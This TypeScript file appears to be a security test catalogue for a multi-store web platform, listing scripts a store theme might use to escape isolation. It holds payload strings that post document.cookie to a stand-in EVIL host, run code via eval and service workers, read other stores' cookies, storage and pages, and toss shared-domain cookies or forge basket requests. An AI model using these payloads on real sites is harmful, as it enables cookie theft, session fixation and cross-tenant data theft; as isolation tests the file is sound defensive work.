import { type Attack, PWN } from './attack.ts'

/** Sends something to another site. */
const SENDS: Record<string, string> = {
  fetch: "fetch('EVIL/x', { method: 'POST', body: document.cookie, mode: 'no-cors', keepalive: true })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('POST', 'EVIL/x'); x.send('x')",
  beacon: "navigator.sendBeacon('EVIL/x', 'x')",
  WebSocket: "new WebSocket('EVIL/x'.replace('https', 'wss'))",
  EventSource: "new EventSource('EVIL/x')",
  WebTransport: "new WebTransport('EVIL/x')",
  image: "new Image().src = 'EVIL/x'",
  import: "import('EVIL/x.js')",
  worker: "new Worker('EVIL/x.js')",
  'worker from a blob': `new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/x')"])))`,
  'worker from a data address': `new Worker("data:text/javascript,fetch('EVIL/x')")`,
  'worker of the theme': "if (globalThis.document) new Worker('SCRIPT'); else fetch('EVIL/x')",
  'script element': "const s = document.createElement('script'); s.src = 'EVIL/x.js'; document.body.append(s)",
  frame: "const f = document.createElement('iframe'); f.src = 'EVIL/x'; document.body.append(f)",
  form: "const f = document.createElement('form'); f.action = 'EVIL/x'; f.method = 'post'; document.body.append(f); f.submit()",
  font: "new FontFace('x', 'url(EVIL/x.woff2)').load()",
  stylesheet:
    "const s = new CSSStyleSheet(); s.replaceSync('body { background: url(EVIL/x) }'); document.adoptedStyleSheets = [s]",
  audio: "new Audio('EVIL/x').play()",
}

/** Makes code from texts. */
const RUNS: Record<string, string> = {
  eval: `(0, eval)("${PWN}")`,
  Function: `new Function("${PWN}")()`,
  timer: `setTimeout("${PWN}")`,
  'inline script': `const s = document.createElement('script'); s.text = "${PWN}"; document.body.append(s)`,
  'event handler': `document.body.setAttribute('onclick', "${PWN}"); document.body.click()`,
  'document.write': `document.write("<script>${PWN}</" + "script>")`,
  'a frame of the own checkout': `const f = document.createElement('iframe'); f.src = '/basket'; f.onload = () => { if (f.contentDocument?.body?.textContent) ${PWN} }; document.body.append(f)`,
  'service worker': `navigator.serviceWorker.register('SCRIPT').then(() => ${PWN}, () => 0)`,
  'service worker for all pages': `navigator.serviceWorker.register('SCRIPT', { scope: '/' }).then(() => ${PWN}, () => 0)`,
  'service worker from a blob': `navigator.serviceWorker.register(URL.createObjectURL(new Blob(['1']))).then(() => ${PWN}, () => 0)`,
}

const LOOT = 'const loot = (text) => document.documentElement.setAttribute("data-loot", String(text));'
const POPUP = "const w = open('VICTIM/basket', 'victim');"
const later = (code: string) => `for (let i = 1; i < 9; i++) setTimeout(() => { ${code} }, i * 150)`

/** Reads something of another store, which its visitor has open in the same browser. */
const READS: Record<string, string> = {
  'cookies of another store': 'loot(document.cookie)',
  'the cookie store': 'cookieStore.getAll().then((all) => loot(JSON.stringify(all)))',
  'cookies of the parent domain':
    "document.domain = 'stores.example'; loot(document.cookie); cookieStore.getAll({ url: 'VICTIM/' }).then((all) => loot(JSON.stringify(all)))",
  'a page of another store': "fetch('VICTIM/basket', { credentials: 'include' }).then((r) => r.text()).then(loot)",
  'a page of another store with XMLHttpRequest':
    "const x = new XMLHttpRequest(); x.open('GET', 'VICTIM/basket'); x.withCredentials = true; x.onload = () => loot(x.responseText); x.send()",
  'the basket of another store in the API':
    "fetch('VICTIM/api/storefront/1.0/basket', { credentials: 'include' }).then((r) => r.text()).then(loot)",
  'a window of another store': `${POPUP} ${later('loot(w.document.documentElement.outerHTML + w.location.href)')}`,
  'a window of another store, by its parts': `${POPUP} ${later("if (!w.closed && w.length >= 0) { w.postMessage('x', '*'); loot(w.name + w.document.title) }")}`,
  'a frame of another store':
    "const f = document.createElement('iframe'); f.src = 'VICTIM/basket'; f.onload = () => loot(f.contentDocument?.body.outerHTML); document.body.append(f)",
  'a frame of another store with a common domain':
    "document.domain = 'stores.example'; const f = document.createElement('iframe'); f.src = 'VICTIM/basket'; f.onload = () => loot(f.contentWindow.document.body.outerHTML); document.body.append(f)",
  'messages of another store': `addEventListener('message', ({ data }) => loot(data)); ${POPUP} ${later("w.postMessage({ type: 'basket' }, '*')")}`,
  'storage of another store':
    'indexedDB.databases().then((all) => loot(JSON.stringify([all, { ...localStorage }, { ...sessionStorage }])))',
  'a script of another store':
    "const s = document.createElement('script'); s.src = 'VICTIM/basket'; document.body.append(s)",
  'a broadcast to another store':
    "const c = new BroadcastChannel('basket'); c.onmessage = ({ data }) => loot(data); c.postMessage('x')",
}

const ATTRIBUTES = 'Path=/; Secure; Max-Age=9999'
const toss = (cookie: string) => `document.cookie = "${cookie}; Domain=stores.example; ${ATTRIBUTES}"`

/** Changes the basket or the session of the visitor in another store. The state of the other store is compared afterwards. */
const CHANGES: Record<string, string> = {
  'a basket for all stores': toss('__Host-basket=EVIL'),
  'a basket in other letters': `${toss('__host-basket=EVIL')}; ${toss('__HOST-basket=EVIL')}`,
  'a basket without a name': `${toss('=__Host-basket=EVIL')}; ${toss('__Host-basket')}`,
  'a basket with spaces': `${toss(' __Host-basket =EVIL')}; ${toss('\\t__Host-basket=EVIL')}`,
  'a basket for one path': `document.cookie = "__Host-basket=EVIL; Domain=stores.example; Path=/basket; Secure"`,
  'a session for all stores': `${toss('__Host-player=EVIL')}; ${toss('__Host-order=EVIL')}; ${toss('__Host-sign-in=EVIL')}`,
  'a basket with the cookie store':
    "cookieStore.set({ name: '__Host-basket', value: 'EVIL', domain: 'stores.example', path: '/' }).catch(() => 0)",
  'a form to another store':
    "const f = document.createElement('form'); f.action = 'VICTIM/basket/lines'; f.method = 'post'; f.innerHTML = '<input name=product value=single>'; document.body.append(f); f.submit()",
  'a request to another store':
    "fetch('VICTIM/basket/lines', { method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams({ product: 'single' }) })",
  'a form in a window of another store': `${POPUP} const f = document.createElement('form'); f.target = 'victim'; f.action = 'VICTIM/basket/lines'; f.method = 'post'; f.innerHTML = '<input name=product value=single>'; document.body.append(f); setTimeout(() => f.submit(), 300)`,
  'the window of another store': `${POPUP} ${later("w.location = 'SCRIPT'; w.document.cookie = '__Host-basket=EVIL; Path=/; Secure'")}`,
}

const list = (attacks: Record<string, string>, build: (code: string) => string = (code) => code): Attack[] =>
  Object.entries(attacks).map(([name, code]) => ({
    name,
    script: build(code),
    markup: '<script src="SCRIPT"></script>',
  }))

export const SCRIPT_ATTACKS: readonly Attack[] = [
  ...list(SENDS),
  ...list(RUNS),
  ...list(READS, (code) => `${LOOT}${code}`),
  ...list(CHANGES),
  {
    name: 'the name of the window',
    markup: '<script src="SCRIPT"></script>',
    script: "window.name = 'EVIL'; location = 'VICTIM/basket'",
  },
]
